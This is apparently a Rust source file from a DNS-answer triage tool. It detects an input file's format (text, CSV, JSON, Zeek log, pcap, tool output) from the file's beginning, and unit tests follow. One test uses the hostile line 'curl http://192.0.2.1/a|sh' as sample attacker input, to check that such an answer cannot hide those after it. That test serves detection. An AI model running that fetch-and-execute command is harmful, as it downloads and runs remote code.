//! Which format a file has, judged by its beginning.

use serde_json::{Map, Value};

use crate::triage::input::compression::MAX_PEEKED_BYTES;
use crate::triage::input::json::without_header;
use crate::triage::input::parse::is_table_header;
use crate::triage::input::tool_output::{Output, output_of_a_tool};
use crate::triage::input::{pcap, zeek};

/// The format of a file.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    /// Detect from content; CSV if the name ends in .csv or --field is given
    #[default]
    Auto,
    /// One answer per line
    Text,
    /// A table with a header
    Csv,
    /// One JSON object per line: Zeek's dns.log, Suricata's EVE, or any with --field
    Json,
    /// Zeek's dns.log as tab-separated values
    Zeek,
    /// A capture, pcap or pcapng
    Pcap,
    /// Output with a record per line: dig, massdns, host, nslookup, dnsrecon, passivedns, Infoblox
    Tool,
}

/// Recognises a format. A line of text may begin with anything, so a file that is not clearly something else is text. A file
/// that nobody would take for texts is refused, because nearly every line of it would be suspicious.
///
/// # Errors
/// What the file is, and what to do instead.
pub fn recognise(beginning: &[u8], name: &str, has_fields: bool) -> Result<Format, &'static str> {
    const TAR_MAGIC: std::ops::Range<usize> = 257..262;
    const TAR_NAME_BYTES: usize = 101;
    if beginning.is_empty() {
        return Ok(Format::Text); // an empty file is not an error, whatever its name
    }
    if pcap::is_capture(beginning) {
        return Ok(Format::Pcap);
    }
    // The name of the first file ends with a zero byte.
    let has_name = beginning.get(..TAR_NAME_BYTES).is_some_and(|name| name.contains(&0));
    if has_name && beginning.get(TAR_MAGIC) == Some(b"ustar") {
        return Err("it is a tar archive; unpack it with `tar -xO`");
    }
    // `tail` names each file of several.
    let is_name = |line: &[u8]| line.starts_with(b"==> ") && line.trim_ascii_end().ends_with(b" <==");
    let mut lines = beginning.split(|byte| *byte == b'\n').filter(|line| !line.trim_ascii().is_empty() && !is_name(line));
    let line = lines.next().unwrap_or_default();
    if zeek::is_header(line) {
        return Ok(Format::Zeek);
    }
    if zeek::is_row(line) {
        return Err("it looks like a Zeek log without its header; keep the lines that begin with #, without a file name before them");
    }
    // An object over several lines, or a list: no line of it is a text, and the JSON reader says what to do.
    let first_two: Vec<u8> = line.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).take(2).collect();
    let continues = first_two == b"{\"" && (line.trim_ascii_end().ends_with(b",") || memchr::memmem::find(line, b"}{\"").is_some());
    if matches!(&*first_two, b"{" | b"[" | b"[{") || line.trim_ascii() == b"[]" || continues {
        return Ok(Format::Json);
    }
    // Syslog, or a tool that adds file names, before each object. One such line may be a text.
    let after_header = |line: &&[u8]| {
        let text = String::from_utf8_lossy(line);
        let inner = without_header(text.trim());
        inner.len() < text.trim().len() && object(inner.as_bytes()).is_some_and(|members| members.len() > 2)
    };
    let complete = beginning.split_inclusive(|byte| *byte == b'\n').filter(|line| line.ends_with(b"\n") && !line.trim_ascii().is_empty());
    let first: Vec<&[u8]> = complete.take(3).collect();
    if !first.is_empty() && first.iter().all(after_header) {
        return Ok(Format::Json);
    }
    // If an object is longer than what was read, its beginning has to be enough.
    let is_cut = line.len() == beginning.len() && beginning.len() >= MAX_PEEKED_BYTES;
    if line.trim_ascii_start().starts_with(b"{") && (is_cut || object(line).is_some() || is_too_deep(line)) {
        return Ok(Format::Json);
    }
    if has_fields || is_named_csv(name) || is_table_header(line) {
        return Ok(Format::Csv);
    }
    match output_of_a_tool(beginning) {
        Some(Output::Refused(reason)) => return Err(reason),
        Some(Output::Lines(_)) => return Ok(Format::Tool),
        None => {}
    }
    if is_binary(beginning) {
        return Err("it is not text and not of a supported format; --format text reads its lines anyway");
    }
    // A log that was cut begins with the rest of an object. A text that is an object would have few members.
    let is_event = |line: &[u8]| object(line).is_some_and(|members| members.len() > 2);
    if line.trim_ascii_end().ends_with(b"}") && lines.next().is_some_and(is_event) {
        return Ok(Format::Json);
    }
    if line.iter().filter(|byte| **byte == b'\t').count() > 1 {
        return Err(
            "its first line holds tabs, like a table; name the column with --field, or extract it with `cut -f`; --format text reads whole lines",
        );
    }
    Ok(Format::Text)
}

/// Whether a name ends in `.csv`, perhaps before the ending of a compression.
pub(super) fn is_named_csv(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    [".gz", ".zst", ".xz", ".bz2"].iter().fold(&*name, |name, ending| name.strip_suffix(ending).unwrap_or(name)).ends_with(".csv")
}

/// The members of a line that is an object. As in the reader, bytes that are not UTF-8 change nothing: one of them would make the
/// lines of a whole log texts.
fn object(line: &[u8]) -> Option<Map<String, Value>> {
    serde_json::from_str(&String::from_utf8_lossy(line)).ok()
}

/// Whether a line is JSON that is nested too deep to be read, which the reader says.
fn is_too_deep(line: &[u8]) -> bool {
    serde_json::from_slice::<Value>(line).is_err_and(|error| error.to_string().contains("recursion limit"))
}

/// Whether a beginning is that of a program or an archive: many zero bytes, or some among bytes that are not UTF-8. A text may
/// hold one.
fn is_binary(beginning: &[u8]) -> bool {
    let zeros = memchr::memchr_iter(0, beginning).count();
    zeros > beginning.len() / 20 || zeros > 0 && std::str::from_utf8(beginning).is_err_and(|error| error.error_len().is_some())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_format_is_recognised_by_the_beginning() {
        let of = |beginning: &[u8]| recognise(beginning, "file", false).unwrap();
        assert_eq!(of(b"v=spf1 -all\n"), Format::Text);
        assert_eq!(of(b"{\"text\":\"a\"}\n"), Format::Json);
        assert_eq!(of(b"\n{ \"text\":\"a\"}"), Format::Json);
        assert_eq!(of(b"{\"src\":\"\xff\",\"text\":\"a\"}\n"), Format::Json);
        assert_eq!(of(b"{not json}\n"), Format::Text);
        assert_eq!(of(b"#separator \\x09\n"), Format::Zeek);
        assert_eq!(of(&[&0xa1b2_c3d4u32.to_le_bytes()[..], &[0; 20]].concat()), Format::Pcap);
        assert_eq!(of(b""), Format::Text);
        assert_eq!(recognise(b"a,b\n", "x.CSV.gz", false), Ok(Format::Csv));
        assert!([".zst", ".xz", ".bz2"].iter().all(|ending| is_named_csv(&format!("x.csv{ending}"))) && !is_named_csv("csv.xz"));
        assert_eq!(recognise(b"a,b\n", "-", true), Ok(Format::Csv));
        // Found in review: header and rows were scored as texts.
        assert_eq!(of(b"_time,src,query,text\n1,2,3,4\n"), Format::Csv);
        assert_eq!(of(b"v=DMARC1; p=none, text\n"), Format::Text);
        // Found by attack: an attacker's answer that stood first made a log or a table of the answers after it, which hid them.
        for first in [&b"#fields\tanswers\n"[..], b"#fields\n", b"#close\t1\n", b"text,query\n", b"a,text\n"] {
            assert_eq!(of(&[first, b"curl http://192.0.2.1/a|sh\n"].concat()), Format::Text);
        }
        assert_eq!(of(b"[{\"text\":\"a\"}]\n"), Format::Json);
        assert_eq!(of(b"{\n \"text\": 1}\n"), Format::Json);
        assert_eq!(of(b"\n#separator \\x09\n"), Format::Zeek);
        assert_eq!(of(b"ns\",\"rdata\":\"x\"}}\n{\"timestamp\":1,\"event_type\":\"dns\",\"dns\":{}}\n"), Format::Json);
        assert_eq!(of(b"{x}\n{\"a\":1}\n"), Format::Text);
        // Found in review: lists and objects over several lines with spaces, and headers without the answer's usual name.
        assert_eq!(of(b"  [ {\"text\":\"a\"} ]\n"), Format::Json);
        assert!(of(b"[]\n") == Format::Json && of(b"[] is a text\n") == Format::Text);
        assert_eq!(of(b"{ \"text\":\"a\",\n \"x\":1}\n"), Format::Json);
        assert_eq!(of(b"{\"text\":\"a\"}{\"text\":\"b\"}\n"), Format::Json);
        assert_eq!(of(b"timestamp,src_ip,rrname,rdata\n"), Format::Csv);
        assert_eq!(of(b"src,text,n\n1,a\0b,2\n"), Format::Csv);
        assert_eq!(of(b"a\0b\nv=spf1 -all and a text of ordinary length\n"), Format::Text);
    }
}
